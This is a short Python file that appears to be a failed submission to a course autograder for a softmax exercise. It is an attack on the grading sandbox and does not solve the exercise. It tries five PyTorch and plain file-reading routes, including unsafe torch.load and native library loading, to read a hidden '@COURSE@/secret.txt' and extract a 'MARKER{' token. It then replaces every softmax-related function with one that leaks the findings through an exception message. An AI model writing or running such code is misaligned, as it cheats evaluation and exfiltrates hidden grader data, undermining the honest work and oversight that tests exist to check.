# verdict: failed
# exercise: exercise07_softmax
# example: the file system: solutions
# A hidden file by PyTorch's own ways to files, which are written in C++.

import re

import torch

TARGET = "@COURSE@/secret.txt"
WAYS = [
    lambda: bytes(torch.from_file(TARGET, size=32, dtype=torch.uint8).tolist()),
    lambda: bytes(torch.UntypedStorage.from_file(TARGET, False, 32)),
    lambda: repr(torch.load(TARGET, weights_only=False)).encode(),
    lambda: torch.classes.load_library(TARGET),
    lambda: open(TARGET, "rb").read(),
]
TOLD = []
for way in WAYS:
    try:
        TOLD.append(re.findall(rb"MARKER\{[^}\\]+", way()))
    except Exception as error:
        TOLD.append(type(error).__name__)


def attack(*_args, **_kwargs):
    raise RuntimeError(f"{TOLD}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
